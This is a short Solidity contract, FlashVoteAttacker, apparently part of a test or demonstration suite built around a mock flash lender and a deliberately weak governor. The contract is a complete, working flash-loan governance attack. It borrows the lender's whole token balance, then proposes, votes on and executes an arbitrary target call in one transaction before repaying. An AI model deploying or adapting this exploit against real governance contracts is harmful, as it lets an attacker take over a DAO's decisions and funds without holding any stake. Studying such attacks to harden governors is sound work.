// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {FlashLender, IFlashBorrower} from "../mocks/FlashLender.sol";
import {FlashVoteGovernor} from "./FlashVoteGovernor.sol";

/// @title FlashVoteAttacker
/// @notice Borrows votes, proposes, votes, executes and repays in one transaction.
contract FlashVoteAttacker is IFlashBorrower {
    using SafeERC20 for IERC20;

    FlashLender public immutable lender;
    FlashVoteGovernor public immutable governor;

    constructor(FlashLender lender_, FlashVoteGovernor governor_) {
        lender = lender_;
        governor = governor_;
    }

    /// @notice Makes the governor call `target` with `data`.
    function attack(address target, bytes calldata data) external {
        IERC20 token = governor.token();
        lender.flashLoan(token, token.balanceOf(address(lender)), abi.encode(target, data));
    }

    /// @inheritdoc IFlashBorrower
    function onFlashLoan(IERC20 token, uint256 amount, bytes calldata loanData) external {
        (address target, bytes memory data) = abi.decode(loanData, (address, bytes));
        uint256 proposal = governor.propose(target, data);
        governor.vote(proposal);
        governor.execute(proposal);
        token.safeTransfer(address(lender), amount);
    }
}
